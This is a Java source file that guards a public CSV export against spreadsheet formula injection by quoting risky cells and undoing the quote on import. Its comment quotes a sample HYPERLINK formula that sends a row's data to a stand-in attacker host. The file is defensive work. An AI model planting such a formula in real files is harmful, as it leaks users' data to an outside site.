package de.datenhafen.plugins.social;

import java.util.regex.Pattern;

/**
 * Keeps the tabular export's cells from running as spreadsheet formulas (OWASP, "CSV Injection"): the export is public,
 * and a service's name {@code =HYPERLINK("https://evil.example/?d="&A2,"Details")} written as it is became a live link
 * that sends the row to another site once the file is opened in a spreadsheet. A cell whose text starts with
 * {@code = + - @}, a tab or a carriage return is written with a single quote before it, which spreadsheets read as
 * "text"; the tabular import takes exactly that one quote off again, so the directory's own export imports back
 * unchanged.
 *
 * <p>A plain number ({@code -12.5}, {@code +3}, {@code 1.0E-5}) is left as it is: it cannot call anything, and a
 * latitude or an amount must stay a number. A text that already starts with quotes before such a character gets one
 * more, so that the import's one quote off gives it back as it was: what is written and what is read are each
 * other's inverse, and the import leaves any other cell (a third party's {@code 'abc}, {@code '-12.5}) alone.
 */
final class CsvFormulas {

    /** A text a spreadsheet could take for a formula: any quotes, then one of OWASP's characters. */
    private static final Pattern FORMULA = Pattern.compile("'*[=+\\-@\t\r].*", Pattern.DOTALL);
    /** One quote written before such a text. */
    private static final Pattern NEUTRALISED = Pattern.compile("'+[=+\\-@\t\r].*", Pattern.DOTALL);
    /** A decimal number as JSON or a spreadsheet writes it, sign and exponent included. */
    private static final Pattern PLAIN_NUMBER = Pattern.compile("[+-]?(\\d+(\\.\\d*)?|\\.\\d+)([eE][+-]?\\d+)?");

    private CsvFormulas() {
    }

    /** The cell's text as the export writes it: with a quote before it when a spreadsheet would run it. */
    static String neutralise(String text) {
        return FORMULA.matcher(text).matches() && !PLAIN_NUMBER.matcher(text).matches() ? "'" + text : text;
    }

    /** What {@link #neutralise} was given, for a cell it wrote; any other cell as it is. */
    static String restore(String cell) {
        if (NEUTRALISED.matcher(cell).matches()) {
            String text = cell.substring(1);
            if (!PLAIN_NUMBER.matcher(text).matches()) {
                return text;
            }
        }
        return cell;
    }
}
